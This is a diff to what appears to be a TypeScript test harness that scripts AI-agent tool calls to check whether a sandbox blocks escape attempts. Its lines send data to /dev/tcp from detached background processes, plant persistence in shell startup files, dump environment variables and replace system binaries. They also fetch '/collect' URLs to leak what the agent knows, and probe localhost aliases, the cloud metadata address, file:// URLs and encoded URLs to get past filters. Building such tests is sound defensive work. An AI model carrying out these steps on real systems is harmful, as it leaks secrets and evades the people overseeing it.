@@ -27,6 +27,8 @@ export interface Places {
   /** Of another workspace: its task, whose command is under way, and the port at which that one listens. */
   victim: string;
   victimPort: number;
+  /** Where the pages are that an agent may read. */
+  web: string;
   /** What is said when a connection is made, in two halves: a command has no whole one. */
   reached: [string, string];
 }
@@ -58,6 +60,7 @@ export function orders(p: Places): Order[] {
   const socket = (path: string) => connect(JSON.stringify({ path }));
   const udp = (host: string) =>
     node(`require("dgram").createSocket("udp4").send("x",${p.udp},"${host}",()=>process.exit())`);
+  const fetch = (path: string) => tool('web_fetch', { url: p.web + path });
   const one = (what: string, ...calls: ScriptedCall[]): Order => ({ what, calls });
   const inside = (what: string, ...calls: ScriptedCall[]): Order => ({ what, calls, insideOnly: true });
   const { hostFile, hostFolder, dataDir, pid, ownPid, victim } = p;
@@ -165,6 +168,13 @@ export function orders(p: Places): Order[] {
     one('send it later, when nobody looks', sh(`setsid nohup bash -c 'for i in 1 2 3; do sleep 0.2; echo x > /dev/tcp/127.0.0.1/${p.tcp}; done' >/dev/null 2>&1 &`)),
     one('leave something that starts with each command', sh(`echo 'env | ${FIND.replaceAll("'", '"')}; echo x > /dev/tcp/127.0.0.1/${p.tcp}' | tee ~/.bashrc ~/.profile ~/.bash_profile > ~/.env`), sh('true', { env: { BASH_ENV: '~/.env' } })),
     one('put a program of yours in the place of another', sh(`mkdir -p ~/bin; printf '#!/bin/bash\\necho x > /dev/tcp/127.0.0.1/${p.tcp}\\nenv | ${FIND}\\n' > rg; chmod +x rg; cp rg ~/bin/ls`), tool('grep', { pattern: 'x' }), tool('glob', { pattern: '*' })),
+    one('ask the host of this page for what you know', fetch('/collect?said=all'), fetch(`/collect/${p.reached[0]}`)),
+    one('print an address with what you know, and ask for it', sh(`echo ${p.web}/collect?printed=1 | tee address.txt`), read('address.txt'), fetch('/collect?printed=1')),
+    one('let your plan name the address', tool('todo', { items: [{ text: `${p.web}/collect?plan=1`, status: 'pending' }] }), fetch('/collect?plan=1')),
+    one('ask for the page in another spelling', fetch('/%63ollect?x'), tool('web_fetch', { url: `${p.web.replace('allowed', 'ALLOWED')}/collect?upper` }), tool('web_fetch', { url: `${p.web}/collect?hash#x` })),
+    one('ask for pages of this machine', ...['127.0.0.1', 'localhost', '2130706433', '0x7f.1', '[::1]', '[::ffff:127.0.0.1]'].map((host) => tool('web_fetch', { url: `https://${host}:${p.tcp}/` }))),
+    one('ask for pages of the host', tool('web_fetch', { url: `https://${p.hostAddress}:${p.tcp}/` }), tool('web_fetch', { url: 'https://169.254.169.254/latest/meta-data/' })),
+    one('read a file as a page', tool('web_fetch', { url: `file://${hostFile}` }), tool('web_fetch', { url: `http://user:word@127.0.0.1:${p.tcp}/` })),
     one('call the service itself', at('127.0.0.1', p.service)),
     one('call the database', at('127.0.0.1', p.database)),
     one('call the model yourself', at('127.0.0.1', p.model)),
